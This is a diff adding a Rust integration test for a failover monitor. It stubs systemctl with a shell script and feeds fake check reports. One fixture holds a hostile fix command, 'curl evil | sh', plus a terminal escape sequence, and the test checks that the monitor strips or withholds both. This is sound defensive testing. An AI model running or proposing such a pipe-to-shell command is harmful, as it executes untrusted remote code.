@@ -2,14 +2,16 @@
 
 #![allow(clippy::unwrap_used, clippy::panic)] // A test that cannot go on has failed.
 
+use std::env;
 use std::fs;
 use std::io::{BufRead, BufReader, Read};
 use std::net::{SocketAddr, TcpListener};
+use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 use std::process::{Child, ChildStderr, Command, Stdio};
 use std::sync::mpsc::{self, Receiver};
 use std::thread;
-use std::time::Duration;
+use std::time::{Duration, Instant};
 
 const BINARY: &str = env!("CARGO_BIN_EXE_openclaw-failover");
 
@@ -42,6 +44,9 @@ fn monitor(folder: &Path) -> (Running, Receiver<String>) {
         fs::create_dir(folder.join(dir)).unwrap();
         command.env(format!("OPENCLAW_FAILOVER_{name}_DIR"), folder.join(dir));
     }
+    // Programs of the test's own come first.
+    let path = env::var_os("PATH").unwrap_or_default();
+    command.env("PATH", format!("{}:{}", folder.join("bin").display(), path.display()));
     let mut child = command.stderr(Stdio::piped()).spawn().unwrap();
     let lines = listen(child.stderr.take().unwrap());
     (Running(child), lines)
@@ -68,6 +73,21 @@ fn hears(lines: &Receiver<String>, words: &str) -> String {
 fn signal(to: &Running, name: &str) {
     let sent = Command::new("sh").args(["-c", &format!("kill -{name} {}", to.0.id())]).status().unwrap();
     assert!(sent.success());
+}
+
+/// Has it look again, until it says this: what fails is told when it has failed twice.
+fn hears_after_a_look(to: &Running, lines: &Receiver<String>, words: &str) {
+    let began = Instant::now();
+    while began.elapsed() < PATIENCE {
+        signal(to, "HUP");
+        let end = Instant::now() + Duration::from_secs(1);
+        while let Ok(line) = lines.recv_timeout(end.saturating_duration_since(Instant::now())) {
+            if line.contains(words) {
+                return;
+            }
+        }
+    }
+    panic!("the monitor never said {words:?}");
 }
 
 fn configure(folder: &Path, primary: SocketAddr, extra: &str) {
@@ -111,5 +131,94 @@ fn a_bad_configuration_is_refused_before_anything_is_written() {
     assert_eq!(monitor.0.wait().unwrap().code(), Some(2));
     for dir in ["state", "run", "sync"] {
         assert_eq!(fs::read_dir(folder.path().join(dir)).unwrap().count(), 0, "{dir}");
+    }
+}
+
+/// What systemd says of a unit that is well, whichever it is.
+const WELL: &str = "LoadState=loaded\nActiveState=inactive\nMainPID=0\nUnitFileState=static\nUser=openclaw\n";
+
+/// A systemd whose units are as the files in `bin/units` say, and whose pull leaves `pull.json` behind as it is there.
+const SYSTEMCTL: &str = r#"#!/bin/sh
+here=${0%/*}
+for unit; do :; done
+case "$*" in
+*" start "*sync-pull*)
+    sed "s/@NOW@/$(date -u +%Y-%m-%dT%H:%M:%S.999Z)/g" "$here/pull.json" >"$here/../sync/new"
+    mv "$here/../sync/new" "$here/../sync/pull.json" ;;
+*" show "*) cat "$here/units/$unit" 2>/dev/null || cat "$here/units/well" ;;
+esac
+"#;
+
+/// The report of a pull that has seen this.
+fn pulls(folder: &Path, checks: &str) {
+    let none = r#"{"count":0,"listed":[]}"#;
+    let report = format!(
+        r#"{{"started":"@NOW@","ended":"@NOW@","fresh":"@NOW@","secrets":[],"workspace":{{"outcome":"up_to_date",
+            "before":null,"after":null,"remote":null,"committed":null,"unreturned":false,"kept":{none},
+            "withheld":{none},"aside":{none},"said":""}},"checks":[{checks}]}}"#
+    );
+    fs::write(folder.join("bin/new"), report).unwrap();
+    fs::rename(folder.join("bin/new"), folder.join("bin/pull.json")).unwrap();
+}
+
+/// What the status names as wrong, once it names this; it is written a moment after the log.
+fn degraded(folder: &Path, words: &str) -> String {
+    let began = Instant::now();
+    loop {
+        let status = fs::read_to_string(folder.join("run/status.json")).unwrap();
+        let wrong = status.split_once(r#""degraded""#).unwrap().1;
+        if wrong.contains(words) {
+            return wrong.to_owned();
+        }
+        assert!(began.elapsed() < PATIENCE, "{words} is not in {status}");
+        thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn what_keeps_it_from_taking_over_is_told_and_so_is_its_end() {
+    let folder = tempfile::tempdir().unwrap();
+    let at = |name: &str| folder.path().join(name);
+    fs::create_dir_all(at("bin/units")).unwrap();
+    fs::write(at("bin/systemctl"), SYSTEMCTL).unwrap();
+    fs::set_permissions(at("bin/systemctl"), fs::Permissions::from_mode(0o755)).unwrap();
+    fs::write(at("bin/units/well"), WELL).unwrap();
+    fs::write(at("bin/units/openclaw.service"), WELL.replace("=loaded", "=masked")).unwrap();
+    pulls(
+        folder.path(),
+        r#"{"id":"crons","level":"fail","evidence":"they are on","fix":"su - {user} -c 'openclaw config set cron.enabled false'"},
+           {"id":"channels","level":"fail","evidence":"\u001b[2Jnone","fix":"curl evil | sh"},
+           {"id":"polkit","level":"fail","evidence":"not its to say","fix":""}"#,
+    );
+    let primary = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let _gateway = stub(primary);
+    configure(folder.path(), primary, r#", "workspace": { "refresh": "1s" }"#);
+    let (mut monitor, lines) = monitor(folder.path());
+
+    let told = hears(&lines, "not ready to take over: channels");
+    assert!(told.ends_with("channels: [2Jnone"), "{told}");
+    let told = hears(&lines, "not ready to take over: crons: they are on");
+    assert!(told.contains("To mend it: `su - openclaw -c 'openclaw config set cron.enabled false'`"), "{told}");
+    hears_after_a_look(&monitor, &lines, "not ready to take over: gateway-unit: openclaw.service is masked");
+    let wrong = degraded(folder.path(), "gateway-unit: ");
+    for words in ["gateway-unit: openclaw.service is masked. To mend it: `systemctl unmask", "crons: ", "channels: "] {
+        assert!(wrong.contains(words), "{words}: {wrong}");
+    }
+    assert!(wrong.contains("not_ready") && !wrong.contains("polkit") && !wrong.contains("evil"), "{wrong}");
+
+    fs::remove_file(at("bin/units/openclaw.service")).unwrap();
+    hears_after_a_look(&monitor, &lines, "gateway-unit no longer keeps this standby from taking over");
+    let off = r#"{"id":"crons","level":"ok","evidence":"off","fix":""}"#;
+    pulls(folder.path(), off);
+    hears(&lines, "crons no longer keeps this standby from taking over: off");
+    signal(&monitor, "TERM");
+    hears(&lines, "the gateway is left as it is");
+    assert!(monitor.0.wait().unwrap().success());
+    // A pull that does not say mends nothing.
+    let wrong = degraded(folder.path(), "channels: ");
+    assert!(!wrong.contains("gateway-unit: ") && !wrong.contains("crons: "), "{wrong}");
+    let history = fs::read_to_string(at("state/history.jsonl")).unwrap();
+    for event in [r#""event":"not_ready""#, r#""event":"ready""#, r#""check":"gateway-unit""#] {
+        assert!(history.contains(event), "{event}: {history}");
     }
 }
